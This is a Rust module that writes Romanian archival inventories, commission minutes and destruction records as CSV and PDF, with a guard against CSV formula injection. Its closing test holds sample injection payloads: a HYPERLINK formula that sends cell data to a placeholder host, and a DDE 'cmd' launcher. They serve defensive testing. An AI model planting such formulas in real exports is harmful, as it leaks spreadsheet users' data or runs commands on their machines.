//! The inventory layout of Legea 16/1996, Anexa 2, as CSV and PDF, and the
//! documents built on it.

use crate::date;
use crate::dispose::DestructionRecord;
use crate::error::{Result, RetentionError};
use crate::plan::Listed;
use crate::proposal::{Approval, Proposal};

use super::pdf::{Pdf, MARGIN, WIDTH};

/// The Anexa 2 columns, in order.
pub const COLUMNS: [&str; 6] = [
    "Nr. crt.",
    "Indicativ dosar",
    "Conținutul pe scurt",
    "Date extreme",
    "Nr. file",
    "Observații",
];

/// Column widths in the PDF (points), summing to the printable width.
const WIDTHS: [f32; 6] = [42.0, 78.0, 318.0, 78.0, 50.0, 204.0];

/// "1 dosar", "5 dosare", "20 de dosare": Romanian counts 20 and up with "de".
pub fn dosare(n: u64) -> String {
    match n {
        1 => "1 dosar".into(),
        n if n % 100 >= 20 || (n >= 100 && n % 100 == 0) => format!("{n} de dosare"),
        n => format!("{n} dosare"),
    }
}

/// Which inventory a list is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InventoryKind {
    /// "Inventarul documentelor propuse pentru eliminare".
    Elimination,
    /// "Inventarul documentelor permanente" of the same period and department.
    Permanent,
}

impl InventoryKind {
    /// The document's title, in Romanian.
    pub fn title(self) -> &'static str {
        match self {
            InventoryKind::Elimination => {
                "INVENTARUL documentelor propuse pentru eliminare, ca nefolositoare"
            }
            InventoryKind::Permanent => "INVENTARUL documentelor cu termen de păstrare permanent",
        }
    }
}

/// One row of the inventory, as printed.
fn row(n: usize, l: &Listed) -> [String; 6] {
    let mut notes = format!("cota {}; termen {}", l.cota, term_text(l));
    if !l.location.is_empty() {
        notes.push_str(&format!("; {}", l.location));
    }
    if !l.notes.is_empty() {
        notes.push_str(&format!("; {}", l.notes));
    }
    [
        n.to_string(),
        l.indicativ.clone(),
        l.title.clone(),
        l.years(),
        l.sheets.map(|s| s.to_string()).unwrap_or_default(),
        notes,
    ]
}

fn term_text(l: &Listed) -> String {
    match l.term {
        arhiva_store::RetentionTerm::Permanent => "permanent".into(),
        arhiva_store::RetentionTerm::Years(y) => format!("{y} ani"),
    }
}

fn csv_err(e: impl ToString) -> RetentionError {
    RetentionError::Report {
        what: "CSV".into(),
        reason: e.to_string(),
    }
}

/// A cell as written to CSV: one that a spreadsheet would read as a
/// formula — starting with `=`, `+`, `-`, `@`, a tab or a carriage return —
/// gets a leading apostrophe (OWASP, "CSV injection"), so a title such as
/// `=HYPERLINK(…)` is shown as text, never run.
pub fn csv_cell(s: String) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s
    }
}

/// Every cell of a row through [`csv_cell`].
fn safe<const N: usize>(row: [String; N]) -> [String; N] {
    row.map(csv_cell)
}

/// The inventory as CSV: UTF-8 with a byte order mark (so Excel reads the
/// diacritics), `;`-separated, the Anexa 2 header then one row per dossier.
pub fn inventory_csv(items: &[Listed]) -> Result<Vec<u8>> {
    let mut w = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(COLUMNS).map_err(csv_err)?;
    for (i, l) in items.iter().enumerate() {
        w.write_record(safe(row(i + 1, l))).map_err(csv_err)?;
    }
    w.into_inner().map_err(csv_err)
}

/// Heading lines above an inventory: the fond, the department(s), the
/// period and the proposal.
fn heading(p: &Proposal, items: &[Listed]) -> Vec<String> {
    let mut inventories: Vec<&str> = items.iter().map(|l| l.inventory.as_str()).collect();
    inventories.sort_unstable();
    inventories.dedup();
    let mut depts: Vec<&str> = items.iter().map(|l| l.department.as_str()).collect();
    depts.sort_unstable();
    depts.dedup();
    let from = items.iter().map(|l| l.first_year).min();
    let to = items.iter().map(|l| l.last_year).max();
    let mut out = vec![format!(
        "Compartimentul: {}",
        if depts.is_empty() {
            "-".to_string()
        } else {
            depts.join(", ")
        }
    )];
    if let (Some(a), Some(b)) = (from, to) {
        out.push(format!("Anii extremi: {a}-{b}"));
    }
    if !inventories.is_empty() {
        out.push(format!("Inventare de evidență: {}", inventories.join(", ")));
    }
    out.push(format!("Propunerea {} din {}", p.id, date::format_ro(p.at)));
    out
}

/// The inventory as a PDF table in the Anexa 2 layout.
pub fn inventory_pdf(
    kind: InventoryKind,
    p: &Proposal,
    items: &[Listed],
    institution: &str,
) -> Result<Vec<u8>> {
    let mut pdf = Pdf::new(kind.title())?;
    pdf.paragraph(institution, 10.0);
    pdf.centered(kind.title(), 13.0);
    for h in heading(p, items) {
        pdf.centered(&h, 10.0);
    }
    pdf.skip(8.0);
    let rows: Vec<[String; 6]> = items
        .iter()
        .enumerate()
        .map(|(i, l)| row(i + 1, l))
        .collect();
    table(&mut pdf, &COLUMNS.map(String::from), &WIDTHS, &rows);
    pdf.skip(10.0);
    let pages: u64 = items.iter().map(|l| u64::from(l.pages)).sum();
    let sheets: u64 = items.iter().filter_map(|l| l.sheets).map(u64::from).sum();
    pdf.paragraph(
        &format!(
            "Total: {}, {} file declarate, {} pagini digitizate.",
            dosare(items.len() as u64),
            sheets,
            pages
        ),
        10.0,
    );
    pdf.finish()
}

/// Draw a table with a header row, repeating the header on new pages.
fn table(pdf: &mut Pdf, header: &[String], widths: &[f32], rows: &[[String; 6]]) {
    let size = 8.5;
    let lead = size * 1.3;
    let draw_row = |pdf: &mut Pdf, cells: &[String]| {
        let wrapped: Vec<Vec<String>> = cells
            .iter()
            .zip(widths)
            .map(|(c, w)| pdf.wrap(c, size, w - 6.0))
            .collect();
        let lines = wrapped.iter().map(Vec::len).max().unwrap_or(1).max(1);
        let h = lines as f32 * lead + 4.0;
        let top = pdf.y;
        let mut x = MARGIN;
        for (col, w) in wrapped.iter().zip(widths) {
            for (i, l) in col.iter().enumerate() {
                pdf.text(x + 3.0, top - 2.0 - lead * (i as f32 + 1.0) + 2.0, size, l);
            }
            x += w;
        }
        pdf.y = top - h;
        let bottom = pdf.y;
        pdf.line(MARGIN, bottom, WIDTH - MARGIN, bottom);
        let mut x = MARGIN;
        pdf.line(x, top, x, bottom);
        for w in widths {
            x += w;
            pdf.line(x, top, x, bottom);
        }
        h
    };
    let header_top = |pdf: &mut Pdf| {
        let y = pdf.y;
        pdf.line(MARGIN, y, WIDTH - MARGIN, y);
        draw_row(pdf, header);
    };
    header_top(pdf);
    for r in rows {
        let lines = r
            .iter()
            .zip(widths)
            .map(|(c, w)| pdf.wrap(c, size, w - 6.0).len())
            .max()
            .unwrap_or(1);
        if pdf.need(lines as f32 * lead + 4.0) {
            header_top(pdf);
        }
        draw_row(pdf, r);
    }
}

/// A draft of the selection commission's minutes ("proces-verbal"), to be
/// completed, signed and sent with the two inventories.
pub fn proces_verbal_pdf(p: &Proposal, institution: &str) -> Result<Vec<u8>> {
    let mut pdf = Pdf::new("Proces-verbal al comisiei de selecționare")?;
    pdf.paragraph(institution, 10.0);
    pdf.paragraph("Nr. ........ din ..................", 10.0);
    pdf.skip(6.0);
    pdf.centered("PROCES-VERBAL", 14.0);
    pdf.centered(
        "încheiat astăzi .................. cu ocazia selecționării documentelor",
        11.0,
    );
    pdf.skip(10.0);
    let mut depts: Vec<&str> = p.dossiers.iter().map(|l| l.department.as_str()).collect();
    depts.sort_unstable();
    depts.dedup();
    let from = p.dossiers.iter().map(|l| l.first_year).min().unwrap_or(0);
    let to = p.dossiers.iter().map(|l| l.last_year).max().unwrap_or(0);
    let sheets: u64 = p
        .dossiers
        .iter()
        .filter_map(|l| l.sheets)
        .map(u64::from)
        .sum();
    let text = [
        "Comisia de selecționare, numită prin decizia nr. ........ din .................., \
         în componența: președinte ...................................., secretar \
         ...................................., membri ......................................................, \
         s-a întrunit pentru analiza documentelor create în perioada menționată mai jos."
            .to_string(),
        format!(
            "Comisia a analizat, pe baza nomenclatorului arhivistic, documentele compartimentelor: {}, \
             din anii {from}-{to}, și a constatat că termenele de păstrare ale dosarelor ({}, {} file) \
             cuprinse în inventarul anexat au expirat la data de {} (termenele se calculează de la \
             1 ianuarie al anului următor ultimului an al dosarului).",
            depts.join(", "),
            dosare(p.dossiers.len() as u64),
            sheets,
            date::format_ro(p.at)
        ),
        "Comisia propune eliminarea acestor documente ca nefolositoare. Documentele cu termen de \
         păstrare permanent din aceeași perioadă și din aceleași compartimente sunt cuprinse în \
         inventarul anexat al documentelor permanente și se păstrează."
            .to_string(),
        "Prezentul proces-verbal, împreună cu cele două inventare, se înaintează spre confirmare \
         Serviciului Județean al Arhivelor Naționale. Eliminarea se face numai după primirea \
         confirmării (număr și dată), care se înregistrează în sistem."
            .to_string(),
        format!(
            "Anexe: inventarul documentelor propuse pentru eliminare ({}); inventarul \
             documentelor permanente din aceeași perioadă ({}). Propunerea {}.",
            dosare(p.dossiers.len() as u64),
            dosare(p.permanent.len() as u64),
            p.id
        ),
    ];
    for t in &text {
        pdf.paragraph(t, 10.5);
        pdf.skip(6.0);
    }
    pdf.skip(20.0);
    pdf.paragraph("Președinte: ............................      Secretar: ............................      Membri: ............................", 10.0);
    pdf.finish()
}

/// The destruction record as CSV: one row per removed object, with its hash.
pub fn destruction_csv(r: &DestructionRecord) -> Result<Vec<u8>> {
    let mut w = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record([
        "Nr. crt.",
        "Cota",
        "Indicativ dosar",
        "Conținutul pe scurt",
        "Date extreme",
        "Nr. file",
        "Aprobare",
        "Obiect eliminat (SHA-256)",
        "Eveniment jurnal",
    ])
    .map_err(csv_err)?;
    for (i, d) in r.dossiers.iter().enumerate() {
        let objects: Vec<&str> = if d.removed.is_empty() {
            vec![""]
        } else {
            d.removed.iter().map(String::as_str).collect()
        };
        for o in objects {
            w.write_record(safe([
                (i + 1).to_string(),
                d.cota.clone(),
                d.indicativ.clone(),
                d.title.clone(),
                d.years.clone(),
                d.sheets.map(|s| s.to_string()).unwrap_or_default(),
                r.approval.clone(),
                o.to_string(),
                d.seq.to_string(),
            ]))
            .map_err(csv_err)?;
        }
    }
    w.into_inner().map_err(csv_err)
}

/// The destruction record as a PDF: the dossiers destroyed under the
/// approval, each with the hashes of the objects removed.
pub fn destruction_pdf(
    r: &DestructionRecord,
    approval: Option<&Approval>,
    institution: &str,
) -> Result<Vec<u8>> {
    let mut pdf = Pdf::new("Evidența documentelor eliminate")?;
    pdf.paragraph(institution, 10.0);
    pdf.centered("EVIDENȚA DOCUMENTELOR ELIMINATE", 13.0);
    let appr = match approval {
        Some(a) => format!(
            "Confirmarea Arhivelor Naționale nr. {} din {}",
            a.number,
            date::format_ro(a.date)
        ),
        None => r.approval.clone(),
    };
    pdf.centered(&format!("Propunerea {} — {appr}", r.proposal), 10.0);
    pdf.skip(8.0);
    let header = [
        "Nr. crt.",
        "Cota / Indicativ",
        "Conținutul pe scurt",
        "Date extreme",
        "Nr. file",
        "Obiecte eliminate (SHA-256)",
    ]
    .map(String::from);
    let widths = [36.0, 90.0, 190.0, 60.0, 40.0, 364.0];
    let rows: Vec<[String; 6]> = r
        .dossiers
        .iter()
        .enumerate()
        .map(|(i, d)| {
            [
                (i + 1).to_string(),
                format!("{} / {}", d.cota, d.indicativ),
                d.title.clone(),
                d.years.clone(),
                d.sheets.map(|s| s.to_string()).unwrap_or_default(),
                if d.removed.is_empty() {
                    "(niciun obiect propriu)".into()
                } else {
                    d.removed.join("\n")
                },
            ]
        })
        .collect();
    table(&mut pdf, &header, &widths, &rows);
    pdf.skip(10.0);
    let objects: usize = r.dossiers.iter().map(|d| d.removed.len()).sum();
    pdf.paragraph(
        &format!(
            "Total: dosare eliminate: {}, obiecte șterse din depozitul digital: {}. Întocmit de {} la {}.",
            r.dossiers.len(),
            objects,
            if r.by.is_empty() { "-" } else { &r.by },
            if r.at.is_empty() { "-" } else { &r.at }
        ),
        10.0,
    );
    pdf.finish()
}

/// The due list as CSV (for the commission's working copy): one row per
/// dossier due, with its inventory, department, term, since when it is due,
/// and the totals that the grouped report prints.
pub fn due_csv(items: &[Listed]) -> Result<Vec<u8>> {
    let mut w = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record([
        "Cota",
        "Inventar",
        "Compartiment",
        "Indicativ dosar",
        "Conținutul pe scurt",
        "Date extreme",
        "Termen",
        "Scadent din",
        "Nr. file",
        "Pagini",
        "Octeți",
        "Locație",
    ])
    .map_err(csv_err)?;
    for l in items {
        w.write_record(safe([
            l.cota.clone(),
            l.inventory.clone(),
            l.department.clone(),
            l.indicativ.clone(),
            l.title.clone(),
            l.years(),
            l.term.to_string(),
            date::format(l.since),
            l.sheets.map(|s| s.to_string()).unwrap_or_default(),
            l.pages.to_string(),
            l.bytes.to_string(),
            l.location.clone(),
        ]))
        .map_err(csv_err)?;
    }
    w.into_inner().map_err(csv_err)
}

#[cfg(test)]
mod tests {
    use super::*;
    use arhiva_store::RetentionTerm;

    fn listed(title: &str, location: &str) -> Listed {
        Listed {
            cota: "PMA-00001".into(),
            inventory: "inv".into(),
            department: "Contabilitate".into(),
            indicativ: "III/1".into(),
            title: title.into(),
            first_year: 1998,
            last_year: 2001,
            sheets: Some(12),
            term: RetentionTerm::Years(10),
            since: time::Date::from_calendar_date(2012, time::Month::January, 1).expect("date"),
            pages: 3,
            bytes: 100,
            location: location.into(),
            notes: String::new(),
        }
    }

    fn cells(csv: &[u8]) -> Vec<Vec<String>> {
        let mut r = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(true)
            .from_reader(&csv[3..]);
        r.records()
            .map(|rec| rec.expect("record").iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn formulas_in_exported_cells_are_neutralised() {
        let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
        let items = [
            listed(evil, "+cmd|' /C calc'!A0"),
            listed("-2+3", "@SUM(1)"),
            listed("Hotărâri 1998-2001", "Sala 2"),
        ];
        for csv in [
            inventory_csv(&items).expect("csv"),
            due_csv(&items).expect("csv"),
        ] {
            let rows = cells(&csv);
            assert_eq!(rows.len(), 3);
            for row in &rows {
                for cell in row {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "a cell a spreadsheet would run: {cell:?}"
                    );
                }
            }
            let all: Vec<&String> = rows.iter().flatten().collect();
            assert!(
                all.iter().any(|c| **c == format!("'{evil}")),
                "kept as text"
            );
            assert!(
                all.iter().any(|c| c.as_str() == "Hotărâri 1998-2001"),
                "plain text untouched"
            );
        }
        assert_eq!(csv_cell("\tx".into()), "'\tx");
        assert_eq!(csv_cell("1998-2001".into()), "1998-2001");
    }
}
